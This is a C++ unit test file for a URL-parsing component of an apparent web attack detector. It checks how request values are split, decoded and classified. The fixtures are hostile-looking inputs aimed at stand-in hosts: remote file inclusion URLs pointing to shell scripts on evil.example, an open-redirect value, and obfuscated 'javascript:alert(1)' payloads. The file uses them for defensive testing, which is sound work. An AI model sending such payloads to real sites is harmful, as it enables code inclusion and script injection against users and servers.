#include "core/detect/input/url_values.hpp"

#include <string>
#include <vector>

#include <gtest/gtest.h>

namespace vigil::detect::input::urlv {
namespace {

struct Seen {
  std::string text, name, target;
  UnitKind kind;
  bool decoded;
};

std::vector<Seen> units(std::string_view value, Source source = Source::kQuery,
                        std::string_view name = "q", Form form = Form::kRaw) {
  Candidate c{value, features_of(value), form, 0, source, name};
  std::vector<Seen> out;
  walk_units(
      c,
      [](const UrlUnit& u, void* ctx) {
        static_cast<std::vector<Seen>*>(ctx)->push_back(
            {std::string(u.text), std::string(u.name), std::string(u.target), u.kind, u.decoded});
        return false;
      },
      &out);
  return out;
}

TEST(UrlValues, WholeValueAndWrittenParameters) {
  auto u = units("/cms/index.php?a=1&main=http://evil.example/s.txt?&cmd=id");
  ASSERT_GE(u.size(), 4u);
  EXPECT_EQ(u[0].kind, UnitKind::kValue);
  EXPECT_EQ(u[1].name, "a");
  EXPECT_EQ(u[1].target, "/cms/index.php");
  EXPECT_EQ(u[2].name, "main");
  EXPECT_EQ(u[2].text, "http://evil.example/s.txt?");
  EXPECT_EQ(u[2].target, "/cms/index.php?a=1");
  EXPECT_EQ(u[3].name, "cmd");
}

TEST(UrlValues, ParametersDecodedOnce) {
  auto u = units("?next=%2F%2Fevil.example");
  ASSERT_EQ(u.size(), 3u);
  EXPECT_EQ(u[1].text, "%2F%2Fevil.example");
  EXPECT_FALSE(u[1].decoded);
  EXPECT_EQ(u[2].text, "//evil.example");
  EXPECT_TRUE(u[2].decoded);
}

TEST(UrlValues, ProseWritesNoParameters) {
  // Only the first space-free run can be a request target.
  auto u = units("set x=http://localhost:8080 in the config");
  ASSERT_EQ(u.size(), 1u);
  EXPECT_EQ(u[0].kind, UnitKind::kValue);
}

TEST(UrlValues, GluedParameterNames) {
  auto u = units("/core/list.php?absoluteurlhttp://evil.example/shell.txt");
  bool found = false;
  for (const Seen& s : u)
    if (s.name == "absoluteurl" && s.text == "http://evil.example/shell.txt" &&
        s.target == "/core/list.php")
      found = true;
  EXPECT_TRUE(found);
}

TEST(UrlValues, BareQueryPiece) {
  auto u = units("/out?/\\evil.example");
  ASSERT_EQ(u.size(), 2u);
  EXPECT_EQ(u[1].text, "/\\evil.example");
  EXPECT_EQ(u[1].target, "/out");
}

TEST(UrlValues, RefererParametersAreValues) {
  auto u = units("https://shop.example/search?q=%2Fx.php%3Finc%3Dhttp%3A%2F%2Fevil%2Fs.txt&p=2",
                 Source::kHeader, "Referer");
  ASSERT_GE(u.size(), 3u);
  EXPECT_EQ(u[0].kind, UnitKind::kPage);
  EXPECT_EQ(u[1].kind, UnitKind::kValue);
  EXPECT_EQ(u[1].name, "q");
  EXPECT_EQ(u[1].text, "/x.php?inc=http://evil/s.txt");
  EXPECT_EQ(u[2].kind, UnitKind::kParam);
  EXPECT_EQ(u[2].name, "inc");
  EXPECT_EQ(u[2].target, "/x.php");
  // Decoded forms of a whole Referer mix the levels of its encoding: not walked.
  EXPECT_TRUE(units("https://shop.example/?q=x", Source::kHeader, "Referer", Form::kUrlDecoded)
                  .empty());
}

TEST(UrlValues, RefererParametersEncodedTwice) {
  auto u = units("https://shop.example/search?q=java%2509script%3Aalert(1)", Source::kHeader,
                 "referer");
  bool found = false;
  for (const Seen& s : u) found = found || s.text == "java\tscript:alert(1)";
  EXPECT_TRUE(found);
}

TEST(UrlValues, UnitsAreBounded) {
  std::string v;
  for (int i = 0; i < 1000; ++i) v += "a=1&";
  EXPECT_EQ(units(v).size(), kMaxUnits);
}

TEST(UrlValues, HeadDropsWhatTheParserDrops) {
  Head h;
  read_head("\x01 ja\tva\nscript:alert(1)", &h);
  EXPECT_EQ(h.view(), "javascript:alert(1)");
  EXPECT_TRUE(h.stripped);
  char buf[16];
  std::size_t after = 0;
  EXPECT_EQ(scheme_of(h.view(), buf, &after), "javascript");
  EXPECT_EQ(after, 11u);
  std::string_view scheme;
  EXPECT_EQ(url_start(" Ja\tVa:x", buf, &scheme), Start::kScheme);
  EXPECT_EQ(scheme, "java");
  EXPECT_EQ(url_start("\\\\x", buf, &scheme), Start::kSlash);
  EXPECT_EQ(url_start("12:30", buf, &scheme), Start::kOther);
  EXPECT_EQ(url_start("The end: now", buf, &scheme), Start::kOther);
}

TEST(UrlValues, HostLike) {
  EXPECT_TRUE(host_like("evil.example"));
  EXPECT_TRUE(host_like("user@evil.example:8080"));
  EXPECT_TRUE(host_like("0x7f000001"));
  EXPECT_TRUE(host_like("2130706433"));
  EXPECT_TRUE(host_like("[::1]"));
  EXPECT_TRUE(host_like("localhost:22"));
  EXPECT_FALSE(host_like("comment"));
  EXPECT_FALSE(host_like("a b.c"));
  EXPECT_FALSE(host_like("server\\share.txt"));
  EXPECT_FALSE(host_like(""));
  EXPECT_EQ(written_host("u:p@Evil.example:80"), "Evil.example");
  EXPECT_EQ(written_host("[::1]:80"), "[::1]");
}

TEST(UrlValues, Names) {
  EXPECT_TRUE(is_redirect_name("returnTo"));
  EXPECT_TRUE(is_redirect_name("RETURN_URL"));
  EXPECT_TRUE(is_redirect_name("redirect-uri"));
  EXPECT_FALSE(is_redirect_name("q"));
  EXPECT_TRUE(is_link_name("url"));
  EXPECT_FALSE(is_link_name("mosConfig_absolute_path"));
  EXPECT_TRUE(is_fetch_name("webhook_url"));
  EXPECT_FALSE(is_fetch_name("address"));
}

TEST(UrlValues, PercentDecode) {
  char buf[32];
  EXPECT_EQ(percent_decode("a%2Fb+c%zz%", true, buf, sizeof buf), "a/b c%zz%");
  EXPECT_EQ(percent_decode("a+b", false, buf, sizeof buf), "a+b");
  EXPECT_EQ(percent_decode("abcdef", false, buf, 3), "abc");
}

TEST(UrlValues, EveryUnitIsTrimmed) {
  // Found by fuzz_input_url: a bare query piece and a glued parameter kept the control bytes
  // around them.
  static constexpr char kPiece[] = "\x0b?\0\0https:///evil.example";
  const std::string piece(kPiece, sizeof(kPiece) - 1);
  for (const Seen& u : units(piece)) {
    ASSERT_FALSE(u.text.empty());
    EXPECT_GT(static_cast<unsigned char>(u.text.front()), 0x20) << u.text;
    EXPECT_GT(static_cast<unsigned char>(u.text.back()), 0x20) << u.text;
  }
  for (const Seen& u : units("/index.php?\xf1tm&inehttp://evil.example/\x01")) {
    EXPECT_GT(static_cast<unsigned char>(u.text.back()), 0x20) << u.text;
  }
}

}  // namespace
}  // namespace vigil::detect::input::urlv
